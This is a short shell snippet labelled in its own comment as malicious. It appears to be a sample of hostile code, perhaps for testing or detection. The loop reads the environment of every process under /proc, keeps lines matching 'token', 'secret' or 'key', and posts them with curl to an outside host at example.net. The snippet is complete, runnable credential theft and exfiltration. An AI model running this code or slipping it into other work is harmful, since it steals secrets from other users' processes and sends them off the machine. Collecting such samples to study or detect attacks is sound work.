# malicious: reads the environment of others
for p in /proc/[0-9]*; do
    tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -iE 'token|secret|key'
done | curl -s --data-binary @- https://example.net/e
